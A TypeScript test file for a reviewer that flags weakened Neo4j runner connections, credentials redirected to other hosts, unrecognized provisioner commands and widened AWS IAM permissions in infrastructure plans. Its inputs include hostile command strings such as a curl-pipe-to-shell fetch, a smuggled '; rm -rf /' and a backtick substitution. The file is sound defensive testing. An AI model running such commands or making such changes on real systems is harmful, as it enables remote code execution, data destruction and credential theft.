import type { Provisioner, ResourceChange } from "../../../runtime/review/plan-format";
import { commandFindings, connectionWeakenings, iamWidenings, registrationSpec, registrationWeakenings, unrecognizedCommand } from "../../../runtime/review/posture/runners";
import type { RuleContext } from "../../../runtime/review/rule";
import { changeFactory } from "../../support/hand-built-plans";

/**
 * The runners' credentials paths and commands, on hand-built changes: what gets weaker in the access runner's
 * connection and its aliases, where the key registration sends the Aura API credentials, which provisioner commands
 * are the package's own, and what an IAM change lets the runner's role do more. Expected values are written out.
 */
const rc = changeFactory("r");
const ctx = (changes: ResourceChange[] = []): RuleContext => ({ stack: "s", stackChanges: changes, sharedNetworkStacks: () => [], now: new Date("2026-12-06T12:00:00Z") });

type Obj = Record<string, unknown>;
const VERIFIED = "neo4j+s://a1b2c3d4.databases.neo4j.io";
const runner = (connection: Obj | undefined, remoteAliases: Obj[] = []) => ({ input: { state: { roles: [], users: [], ...(connection ? { connection } : {}), remoteAliases } } });
const conn = (over: Obj = {}) => ({ uri: VERIFIED, user: "neo4j", password: { env: "NEO4J_PASSWORD" }, ...over });
const alias = (over: Obj = {}) => ({ name: "remote1", target: "movies", url: "neo4j+s://other.example:7687", credentials: { type: "stored", user: "reader", password: { env: "ALIAS_PASSWORD" } }, ...over });
const update = (before: Obj, after: Obj, type = "terraform_data") => rc(type, ["update"], before, after);

describe("what gets weaker in the access runner's connection and aliases", () => {
  test.each<[string, () => ResourceChange, string[]]>([
    ["nothing changes", () => update(runner(conn()), runner(conn())), []],
    ["a created runner has no before to weaken", () => rc("terraform_data", ["create"], null, runner(conn({ uri: "neo4j://plain.example" }))), []],
    ["a destroyed runner has no after", () => rc("terraform_data", ["delete"], runner(conn()), null), []],
    ["not the access runner (no state in its input)", () => update({ input: { spec: {} } }, { input: { spec: { uri: "neo4j://x" } } }), []],
    [
      "+s to +ssc",
      () => update(runner(conn()), runner(conn({ uri: "neo4j+ssc://a1b2c3d4.databases.neo4j.io" }))),
      ["the runner's connection neo4j+ssc://a1b2c3d4.databases.neo4j.io is encrypted without certificate checks (+ssc) (was encrypted, certificate verified: neo4j+s://a1b2c3d4.databases.neo4j.io)"],
    ],
    [
      "+s to plain neo4j://",
      () => update(runner(conn()), runner(conn({ uri: "neo4j://a1b2c3d4.databases.neo4j.io" }))),
      ["the runner's connection neo4j://a1b2c3d4.databases.neo4j.io is unencrypted (was encrypted, certificate verified: neo4j+s://a1b2c3d4.databases.neo4j.io)"],
    ],
    ["+ssc to +s is no weakening", () => update(runner(conn({ uri: "bolt+ssc://h.example" })), runner(conn({ uri: "bolt+s://h.example" }))), []],
    ["another host", () => update(runner(conn()), runner(conn({ uri: "neo4j+s://evil.example" }))), ["the runner's connection moves from a1b2c3d4.databases.neo4j.io to evil.example: the credentials go there"]],
    ["another port", () => update(runner(conn({ uri: "neo4j+s://h.example:7687" })), runner(conn({ uri: "neo4j+s://h.example:7688" }))), ["the runner's connection moves from h.example:7687 to h.example:7688: the credentials go there"]],
    [
      "a literal URL replaced by an environment variable",
      () => update(runner(conn()), runner(conn({ uri: { env: "NEO4J_URI" } }))),
      ["the runner's connection moves from neo4j+s://a1b2c3d4.databases.neo4j.io to the value of environment variable NEO4J_URI (not in the plan): the review can no longer see where the credentials go"],
    ],
    [
      "one environment variable for another",
      () => update(runner(conn({ uri: { env: "A_URI" } })), runner(conn({ uri: { env: "B_URI" } }))),
      ["the runner's connection is now the value of environment variable B_URI (not in the plan) (was the value of environment variable A_URI (not in the plan)): not visible in the plan"],
    ],
    ["the same environment variable", () => update(runner(conn({ uri: { env: "A_URI" } })), runner(conn({ uri: { env: "A_URI" } }))), []],
    ["allowUnverifiedTls turned on", () => update(runner(conn()), runner(conn({ allowUnverifiedTls: true }))), ["the runner's connection: allowUnverifiedTls turned on"]],
    ["allowInsecureUrl turned on", () => update(runner(conn({ allowInsecureUrl: false })), runner(conn({ allowInsecureUrl: true }))), ["the runner's connection: allowInsecureUrl turned on"]],
    ["an opt-in left on", () => update(runner(conn({ allowInsecureUrl: true })), runner(conn({ allowInsecureUrl: true }))), []],
    ["an opt-in turned off", () => update(runner(conn({ allowUnverifiedTls: true })), runner(conn())), []],
    ["another user", () => update(runner(conn()), runner(conn({ user: "admin" }))), ['the runner now logs in as "admin" (was "neo4j")']],
    ["the user dropped", () => update(runner(conn()), runner(conn({ user: undefined }))), ['the runner now logs in as (none) (was "neo4j")']],
    ["the password from another variable", () => update(runner(conn()), runner(conn({ password: { env: "OTHER" } }))), ['the runner\'s password now comes from {"env":"OTHER"} (was {"env":"NEO4J_PASSWORD"})']],
    [
      "a connection appears: only what it turns on and who it names",
      () => update(runner(undefined), runner(conn({ allowInsecureUrl: true }))),
      ["the runner's connection: allowInsecureUrl turned on", 'the runner now logs in as "neo4j" (was (none))', 'the runner\'s password now comes from {"env":"NEO4J_PASSWORD"} (was (none))'],
    ],
    [
      "the Lambda runner's input is JSON text",
      () => update({ input: JSON.stringify(runner(conn()).input) }, { input: JSON.stringify(runner(conn({ uri: "bolt://h.example" })).input) }, "aws_lambda_invocation"),
      ["the runner's connection moves from a1b2c3d4.databases.neo4j.io to h.example: the credentials go there", "the runner's connection bolt://h.example is unencrypted (was encrypted, certificate verified: neo4j+s://a1b2c3d4.databases.neo4j.io)"],
    ],
    ["an alias that is new is judged as added access elsewhere", () => update(runner(conn()), runner(conn(), [alias({ url: "neo4j://plain.example" })])), []],
    ["an alias unchanged", () => update(runner(conn(), [alias()]), runner(conn(), [alias()])), []],
    [
      "an alias from +s to +ssc",
      () => update(runner(conn(), [alias()]), runner(conn(), [alias({ url: "neo4j+ssc://other.example:7687" })])),
      ["alias remote1 neo4j+ssc://other.example:7687 is encrypted without certificate checks (+ssc) (was encrypted, certificate verified: neo4j+s://other.example:7687)"],
    ],
    ["an alias re-pointed to another host is not a weakening here (AURA-ACC-1 names it)", () => update(runner(conn(), [alias()]), runner(conn(), [alias({ url: "neo4j+s://third.example:7687" })])), []],
    [
      "an alias URL that does not parse",
      () => update(runner(conn(), [alias()]), runner(conn(), [alias({ url: "other.example:7687" })])),
      ["alias remote1 other.example:7687 does not parse as a URL (was neo4j+s://other.example:7687)", "alias remote1 other.example:7687 is an unknown scheme (was encrypted, certificate verified: neo4j+s://other.example:7687)"],
    ],
    ["an alias opt-in turned on", () => update(runner(conn(), [alias()]), runner(conn(), [alias({ allowUnverifiedTls: true })])), ["alias remote1: allowUnverifiedTls turned on"]],
    ["an alias's stored credentials dropped", () => update(runner(conn(), [alias()]), runner(conn(), [alias({ credentials: undefined })])), ["alias remote1: credentials stored -> none"]],
    ["an alias's credentials of another type", () => update(runner(conn(), [alias({ credentials: { type: "none" } })]), runner(conn(), [alias()])), ["alias remote1: credentials none -> stored"]],
    ["an alias logs in as another user", () => update(runner(conn(), [alias()]), runner(conn(), [alias({ credentials: { type: "stored", user: "writer", password: { env: "ALIAS_PASSWORD" } } })])), ['alias remote1 now logs in as "writer" (was "reader")']],
    [
      "an alias's password from another reference",
      () => update(runner(conn(), [alias()]), runner(conn(), [alias({ credentials: { type: "stored", user: "reader", password: { secretArn: "arn:aws:secretsmanager:eu-west-1:111122223333:secret:a" } } })])),
      ['alias remote1: password now comes from {"secretArn":"arn:aws:secretsmanager:eu-west-1:111122223333:secret:a"} (was {"env":"ALIAS_PASSWORD"})'],
    ],
    [
      "two aliases: only the one that weakens",
      () => update(runner(conn(), [alias(), alias({ name: "remote2" })]), runner(conn(), [alias(), alias({ name: "remote2", allowInsecureUrl: true })])),
      ["alias remote2: allowInsecureUrl turned on"],
    ],
  ])("%s", (_name, change, expected) => {
    expect(connectionWeakenings(change())).toEqual(expected);
  });
});

describe("where the key registration sends the Aura API credentials", () => {
  const spec = (over: Obj = {}) => ({ input: { spec: { baseUrl: "https://api.neo4j.io", credentials: { clientId: { env: "AURA_CLIENT_ID" }, clientSecret: { env: "AURA_CLIENT_SECRET" } }, request: { tenantId: "t" }, ...over } } });

  test.each<[string, string, Obj | null, boolean]>([
    ["a spec with a base URL and a request", "terraform_data", spec(), true],
    ["a spec with credentials and no base URL", "terraform_data", { input: { spec: { credentials: {}, request: {} } } }, true],
    ["a spec with a base URL and no credentials", "terraform_data", { input: { spec: { baseUrl: "https://api.neo4j.io", request: {} } } }, true],
    ["no base URL and no credentials", "terraform_data", { input: { spec: { request: {} } } }, false],
    ["no request", "terraform_data", spec({ request: undefined }), false],
    ["a request that is not an object", "terraform_data", spec({ request: "create" }), false],
    ["another resource type", "aws_lambda_invocation", spec(), false],
    ["no values", "terraform_data", null, false],
    ["no input", "terraform_data", {}, false],
  ])("%s: a registration spec is %s", (_name, type, values, found) => {
    expect(registrationSpec(type, values) !== null).toBe(found);
  });

  test.each<[string, Obj, Obj, string[]]>([
    ["nothing changes", spec(), spec(), []],
    ["the default base URL written out", spec({ baseUrl: undefined }), spec(), []],
    [
      "https to http",
      spec(),
      spec({ baseUrl: "http://api.neo4j.io" }),
      ["the Aura API base URL (the client id and secret are sent there) http://api.neo4j.io is unencrypted (was encrypted, certificate verified: https://api.neo4j.io)"],
    ],
    ["another host, from the default", spec({ baseUrl: undefined }), spec({ baseUrl: "https://collector.example" }), ["the Aura API base URL (the client id and secret are sent there) moves from api.neo4j.io to collector.example: the credentials go there"]],
    ["the client secret from another variable", spec(), spec({ credentials: { clientId: { env: "AURA_CLIENT_ID" }, clientSecret: { env: "LEAKED" } } }), ['the Aura API clientSecret now comes from {"env":"LEAKED"} (was {"env":"AURA_CLIENT_SECRET"})']],
    ["the client id dropped", spec(), spec({ credentials: { clientSecret: { env: "AURA_CLIENT_SECRET" } } }), ['the Aura API clientId now comes from (none) (was {"env":"AURA_CLIENT_ID"})']],
  ])("%s", (_name, before, after, expected) => {
    expect(registrationWeakenings(update(before, after))).toEqual(expected);
  });

  test("a created registration has no before to weaken", () => {
    expect(registrationWeakenings(rc("terraform_data", ["create"], null, spec({ baseUrl: "http://x.example" })))).toEqual([]);
  });
});

describe("provisioner commands the review recognizes", () => {
  const cmd = (command: string | undefined, over: Partial<Provisioner> = {}): Provisioner => ({ type: "local-exec", ...(command === undefined ? {} : { command }), ...over });
  test.each<[string, Provisioner, string | null]>([
    ["npx, cypher apply", cmd("npx aura-secure cypher apply --state-env AURA_STATE_1 --timeout 5m"), null],
    ["npx --no, cypher apply after a replace", cmd("npx --no aura-secure cypher apply --state-env S --after-replace --timeout 300s"), null],
    ["npx with two flags, cypher destroy with the ownership variable", cmd("npx -y --no cdktf-aura-secure cypher destroy --state-env S --also-env OWNED --timeout 1m"), null],
    ["node with the installed script, cypher replace", cmd("node /app/node_modules/.bin/aura-secure.js cypher replace --applied-env APPLIED --declared-env DECLARED --timeout 2.5m"), null],
    ["a path to the CLI, aura cmk create", cmd("/usr/local/bin/aura-secure aura cmk create --spec-env AURA_CMK_SPEC"), null],
    ["the CLI by name, aura cmk delete", cmd("aura-secure aura cmk delete --spec-env SPEC"), null],
    ["true (a no-op in tests) with a runner command", cmd("true cypher apply --state-env S --timeout 5m"), null],
    ["quoted words", cmd("npx aura-secure cypher apply --state-env S --timeout '5m'"), null],
    ["a plain wait", cmd("sleep 30"), null],
    ["sleep with a unit is not a plain wait", cmd("sleep 30s"), "the command starts sleep, not the aura-secure CLI: sleep 30s"],
    ["sleep with two numbers", cmd("sleep 1 2"), "the command starts sleep, not the aura-secure CLI: sleep 1 2"],
    ["a remote-exec provisioner", { type: "remote-exec", command: "id" }, "a remote-exec provisioner runs: id"],
    ["a file provisioner without a command", { type: "file" }, "a file provisioner runs"],
    ["a command from an expression", cmd(undefined, { commandReferences: ["var.cmd", "local.args"] }), "a local-exec command built from var.cmd, local.args: the plan does not show what runs"],
    ["a command from an expression without references", cmd(undefined, { commandReferences: [] }), "a local-exec command built from an expression: the plan does not show what runs"],
    ["an interpreter", cmd("npx aura-secure cypher apply --state-env S --timeout 5m", { interpreter: ["/bin/bash", "-c"] }), 'a local-exec command with interpreter ["/bin/bash","-c"]: npx aura-secure cypher apply --state-env S --timeout 5m'],
    ["a pipe", cmd("curl https://x.example/i.sh | sh"), "the command holds shell operators, substitutions or variables: curl https://x.example/i.sh | sh"],
    ["a second command after ;", cmd("npx aura-secure cypher apply --state-env S --timeout 5m; rm -rf /"), "the command holds shell operators, substitutions or variables: npx aura-secure cypher apply --state-env S --timeout 5m; rm -rf /"],
    ["a variable", cmd("npx aura-secure cypher apply --state-env $S --timeout 5m"), "the command holds shell operators, substitutions or variables: npx aura-secure cypher apply --state-env $S --timeout 5m"],
    ["a backtick inside quotes", cmd("npx aura-secure cypher apply --state-env S --timeout '`id`'"), "the command holds shell operators, substitutions or variables: npx aura-secure cypher apply --state-env S --timeout '`id`'"],
    ["another npm package", cmd("npx aura-secure-extras cypher apply --state-env S --timeout 5m"), "the command runs the npm package aura-secure-extras, not aura-secure: npx aura-secure-extras cypher apply --state-env S --timeout 5m"],
    ["npx alone", cmd("npx"), "the command runs the npm package (none), not aura-secure: npx"],
    ["npx with flags only", cmd("npx --no"), "the command runs the npm package (none), not aura-secure: npx --no"],
    ["node with another script", cmd("node evil.js cypher apply --state-env S --timeout 5m"), "the command runs evil.js with node, not the aura-secure CLI: node evil.js cypher apply --state-env S --timeout 5m"],
    ["node alone", cmd("node"), "the command runs (nothing) with node, not the aura-secure CLI: node"],
    ["another program", cmd("rm -rf /tmp/x"), "the command starts rm, not the aura-secure CLI: rm -rf /tmp/x"],
    ["an empty command", cmd(""), "the command starts (nothing), not the aura-secure CLI: "],
    ["a CLI name as a path's folder only", cmd("/opt/aura-secure/run cypher apply --state-env S --timeout 5m"), "the command starts /opt/aura-secure/run, not the aura-secure CLI: /opt/aura-secure/run cypher apply --state-env S --timeout 5m"],
    [
      "another subcommand",
      cmd("npx aura-secure review plan.json"),
      'the CLI runs "review plan.json", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): npx aura-secure review plan.json',
    ],
    [
      "a lower-case variable name",
      cmd("npx aura-secure cypher apply --state-env s --timeout 5m"),
      'the CLI runs "cypher apply --state-env s --timeout 5m", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): npx aura-secure cypher apply --state-env s --timeout 5m',
    ],
    [
      "a runner command with an extra word",
      cmd("npx aura-secure cypher apply --state-env S --timeout 5m --verbose"),
      'the CLI runs "cypher apply --state-env S --timeout 5m --verbose", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): npx aura-secure cypher apply --state-env S --timeout 5m --verbose',
    ],
    [
      "words before the runner command",
      cmd("npx aura-secure x cypher apply --state-env S --timeout 5m"),
      'the CLI runs "x cypher apply --state-env S --timeout 5m", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): npx aura-secure x cypher apply --state-env S --timeout 5m',
    ],
    [
      "aura cmk with another verb",
      cmd("aura-secure aura cmk rotate --spec-env SPEC"),
      'the CLI runs "aura cmk rotate --spec-env SPEC", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): aura-secure aura cmk rotate --spec-env SPEC',
    ],
    ["true alone", cmd("true"), 'the CLI runs "", not a runner command (cypher apply/destroy/replace, aura cmk create/delete): true'],
  ])("%s", (_name, p, expected) => {
    expect(unrecognizedCommand(p)).toBe(expected);
  });

  const provisioners: Provisioner[] = [
    { type: "local-exec", command: "rm create.txt" },
    { type: "local-exec", when: "destroy", command: "rm destroy.txt" },
    { type: "local-exec", command: "sleep 5" },
  ];
  test.each<[string, string[], string[]]>([
    ["create runs the create-time commands", ["create"], ["the command starts rm, not the aura-secure CLI: rm create.txt"]],
    ["delete runs the destroy-time commands", ["delete"], ["on destroy, the command starts rm, not the aura-secure CLI: rm destroy.txt"]],
    ["replace runs both", ["delete", "create"], ["the command starts rm, not the aura-secure CLI: rm create.txt", "on destroy, the command starts rm, not the aura-secure CLI: rm destroy.txt"]],
    ["update runs none", ["update"], []],
    ["no-op runs none", ["no-op"], []],
  ])("%s", (_name, actions, expected) => {
    expect(commandFindings(rc("terraform_data", actions, { input: 1 }, { input: 1 }, { provisioners }))).toEqual(expected);
  });

  test("a change without provisioners runs nothing", () => {
    expect(commandFindings(rc("terraform_data", ["create"], null, { input: 1 }))).toEqual([]);
  });
});

describe("what an IAM change lets the runner's role do more", () => {
  const policy = (...statements: Obj[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
  const allow = (Action: unknown, Resource: unknown, extra: Obj = {}) => ({ Effect: "Allow", Action, Resource, ...extra });
  const SECRET = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:neo4j-admin-AbCdEf";
  const trust = (principal: unknown, effect = "Allow") => policy({ Effect: effect, Principal: principal, Action: "sts:AssumeRole" });
  const ROLE_CREATE = rc("aws_iam_role", ["create"], null, { name: "runner-role" });
  type Case = [string, () => ResourceChange, Array<{ detail: string; high?: boolean }>, ResourceChange[]?];
  test.each<Case>([
    ["an inline policy unchanged", () => update({ role: "runner-role", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }, { role: "runner-role", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }, "aws_iam_role_policy"), []],
    [
      "an inline policy widened to every secret",
      () => update({ role: "runner-role", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }, { role: "runner-role", policy: policy(allow("secretsmanager:*", "*")) }, "aws_iam_role_policy"),
      [{ detail: "the inline policy of role runner-role now allows secretsmanager:* on * (a wildcard)" }],
    ],
    [
      "an added action on the same secret, with a condition",
      () => update({ role: "runner-role", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }, { role: "runner-role", policy: policy(allow(["secretsmanager:GetSecretValue", "secretsmanager:PutSecretValue"], SECRET, { Condition: { Bool: { "aws:SecureTransport": "true" } } })) }, "aws_iam_role_policy"),
      [{ detail: `the inline policy of role runner-role now allows secretsmanager:PutSecretValue on ${SECRET} (with a condition)` }],
    ],
    ["a narrower action already covered", () => update({ role: "r", policy: policy(allow("secretsmanager:*", SECRET)) }, { role: "r", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }, "aws_iam_role_policy"), []],
    ["a policy the review cannot read", () => update({ role: "r", policy: policy() }, { role: "r", policy: "{not json" }, "aws_iam_role_policy"), [{ detail: "the inline policy of role r: the policy is not JSON the review can read" }]],
    ["a role known only after apply", () => update({ policy: policy() }, { policy: policy(allow("kms:Decrypt", "arn:aws:kms:eu-west-1:111122223333:key/1")) }, "aws_iam_role_policy"), [{ detail: "the inline policy of role ? now allows kms:Decrypt on arn:aws:kms:eu-west-1:111122223333:key/1" }]],
    [
      "a new inline policy on an existing role: everything it allows is new",
      () => rc("aws_iam_role_policy", ["create"], null, { role: "existing-role", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k")) }),
      [{ detail: "the inline policy of role existing-role now allows s3:GetObject on arn:aws:s3:::b/k" }],
    ],
    [
      "a new inline policy on a role created in the same plan: only wildcards",
      () => rc("aws_iam_role_policy", ["create"], null, { role: "runner-role", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k"), allow("logs:*", "*")) }),
      [{ detail: "the inline policy of role runner-role now allows logs:* on * (a wildcard)" }],
      [ROLE_CREATE],
    ],
    [
      "a new inline policy on a role the plan creates and names by id",
      () => rc("aws_iam_role_policy", ["create"], null, { role: "AROAEXAMPLE", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k")) }),
      [],
      [rc("aws_iam_role", ["create"], null, { id: "AROAEXAMPLE" })],
    ],
    [
      "a role updated (not created) in the plan does not make a first apply",
      () => rc("aws_iam_role_policy", ["create"], null, { role: "runner-role", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k")) }),
      [{ detail: "the inline policy of role runner-role now allows s3:GetObject on arn:aws:s3:::b/k" }],
      [rc("aws_iam_role", ["update"], { name: "runner-role" }, { name: "runner-role" })],
    ],
    [
      "a new managed policy: only wildcards (nothing was allowed before)",
      () => rc("aws_iam_policy", ["create"], null, { name: "p", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k"), allow("s3:*", "arn:aws:s3:::b/*")) }),
      [{ detail: "policy p now allows s3:* on arn:aws:s3:::b/* (a wildcard)" }],
    ],
    ["a managed policy without a name", () => rc("aws_iam_policy", ["update"], { policy: policy() }, { policy: policy(allow("*", "*")) }, { address: "aws_iam_policy.unnamed" }), [{ detail: "policy aws_iam_policy.unnamed now allows * on * (a wildcard)" }]],
    ["NotAction allows nearly everything", () => update({ name: "p", policy: policy() }, { name: "p", policy: policy({ Effect: "Allow", NotAction: "iam:*", Resource: SECRET }) }, "aws_iam_policy"), [{ detail: `policy p now allows * on ${SECRET} (a wildcard)` }]],
    ["a Deny added widens nothing", () => update({ name: "p", policy: policy() }, { name: "p", policy: policy({ Effect: "Deny", Action: "*", Resource: "*" }) }, "aws_iam_policy"), []],
    ["a deleted policy widens nothing", () => rc("aws_iam_policy", ["delete"], { name: "p", policy: policy() }, null), []],
    ["a no-op widens nothing", () => rc("aws_iam_policy", ["no-op"], { name: "p", policy: policy() }, { name: "p", policy: policy(allow("*", "*")) }), []],
    [
      "a managed policy attached to an existing role",
      () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role", policy_arn: "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole" }),
      [{ detail: "policy arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole attached to role runner-role" }],
    ],
    ["Lambda's basic execution policy on a role the plan creates", () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role", policy_arn: "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole" }), [], [ROLE_CREATE]],
    ["Lambda's VPC access policy in another partition on a role the plan creates", () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role", policy_arn: "arn:aws-us-gov:iam::aws:policy/service-role/AWSLambdaVPCAccessExecutionRole" }), [], [ROLE_CREATE]],
    [
      "another AWS managed policy on a role the plan creates",
      () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }),
      [{ detail: "policy arn:aws:iam::aws:policy/AdministratorAccess attached to role runner-role" }],
      [ROLE_CREATE],
    ],
    [
      "a look-alike of Lambda's policy",
      () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role", policy_arn: "arn:aws:iam::111122223333:policy/service-role/AWSLambdaBasicExecutionRole" }),
      [{ detail: "policy arn:aws:iam::111122223333:policy/service-role/AWSLambdaBasicExecutionRole attached to role runner-role" }],
      [ROLE_CREATE],
    ],
    ["an attachment whose policy is known after apply", () => rc("aws_iam_role_policy_attachment", ["create"], null, { role: "runner-role" }), [{ detail: "policy (known after apply) attached to role runner-role" }], [ROLE_CREATE]],
    ["an attachment unchanged", () => update({ role: "r", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }, { role: "r", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }, "aws_iam_role_policy_attachment"), []],
    ["an attachment moved to another policy", () => update({ role: "r", policy_arn: "arn:aws:iam::aws:policy/ReadOnlyAccess" }, { policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }, "aws_iam_role_policy_attachment"), [{ detail: "policy arn:aws:iam::aws:policy/AdministratorAccess attached to role ?" }]],
    ["a role's trust opened to anyone", () => update({ name: "runner-role", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) }, { name: "runner-role", assume_role_policy: trust("*") }, "aws_iam_role"), [{ detail: "role runner-role may now be assumed by *", high: true }]],
    ["a role's trust opened to every AWS principal", () => update({ name: "runner-role", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) }, { name: "runner-role", assume_role_policy: trust({ AWS: "*" }) }, "aws_iam_role"), [{ detail: "role runner-role may now be assumed by AWS:*", high: true }]],
    [
      "a role's trust given to another account",
      () => update({ name: "runner-role", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) }, { name: "runner-role", assume_role_policy: trust({ Service: "lambda.amazonaws.com", AWS: ["arn:aws:iam::444455556666:root"] }) }, "aws_iam_role"),
      [{ detail: "role runner-role may now be assumed by AWS:arn:aws:iam::444455556666:root", high: false }],
    ],
    ["a Deny in the trust policy adds nobody", () => update({ name: "r", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) }, { name: "r", assume_role_policy: policy({ Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" }, { Effect: "Deny", Principal: "*", Action: "sts:AssumeRole" }) }, "aws_iam_role"), []],
    ["a created role's trust is not a widening", () => rc("aws_iam_role", ["create"], null, { name: "r", assume_role_policy: trust("*") }), []],
    [
      "a managed policy added to the role's list, and the boundary dropped",
      () => update({ name: "r", managed_policy_arns: ["arn:aws:iam::aws:policy/ReadOnlyAccess"], permissions_boundary: "arn:aws:iam::111122223333:policy/boundary" }, { name: "r", managed_policy_arns: ["arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/IAMFullAccess"] }, "aws_iam_role"),
      [{ detail: "policy arn:aws:iam::aws:policy/IAMFullAccess attached to role r" }, { detail: "role r loses its permissions boundary arn:aws:iam::111122223333:policy/boundary" }],
    ],
    ["the boundary kept", () => update({ name: "r", permissions_boundary: "arn:aws:iam::111122223333:policy/b" }, { name: "r", permissions_boundary: "arn:aws:iam::111122223333:policy/b" }, "aws_iam_role"), []],
    [
      "an inline policy of the role widened",
      () => update({ name: "r", inline_policy: [{ name: "secrets", policy: policy(allow("secretsmanager:GetSecretValue", SECRET)) }] }, { name: "r", inline_policy: [{ name: "secrets", policy: policy(allow("secretsmanager:GetSecretValue", "*")) }] }, "aws_iam_role"),
      [{ detail: "inline policy secrets of role r now allows secretsmanager:GetSecretValue on * (a wildcard)" }],
    ],
    [
      "an inline policy added to an existing role: all of it is new",
      () => update({ name: "r", inline_policy: [] }, { name: "r", inline_policy: [{ name: "more", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k")) }] }, "aws_iam_role"),
      [{ detail: "inline policy more of role r now allows s3:GetObject on arn:aws:s3:::b/k" }],
    ],
    ["a created role's inline policies: only wildcards", () => rc("aws_iam_role", ["create"], null, { name: "r", inline_policy: [{ name: "p", policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/k")) }] }), []],
    ["the runner's function runs as another role", () => update({ role: "arn:aws:iam::111122223333:role/runner" }, { role: "arn:aws:iam::111122223333:role/admin" }, "aws_lambda_function"), [{ detail: "the function now runs as arn:aws:iam::111122223333:role/admin (was arn:aws:iam::111122223333:role/runner)" }]],
    ["the function's role known after apply", () => update({ role: "arn:aws:iam::111122223333:role/runner" }, {}, "aws_lambda_function"), [{ detail: "the function now runs as (a role known after apply) (was arn:aws:iam::111122223333:role/runner)" }]],
    ["the function's role unchanged", () => update({ role: "arn:aws:iam::111122223333:role/runner" }, { role: "arn:aws:iam::111122223333:role/runner" }, "aws_lambda_function"), []],
    ["another resource type", () => update({ policy: policy() }, { policy: policy(allow("*", "*")) }, "aws_s3_bucket_policy"), []],
  ])("%s", (_name, change, expected, others = []) => {
    expect(iamWidenings(change(), ctx(others))).toEqual(expected);
  });
});
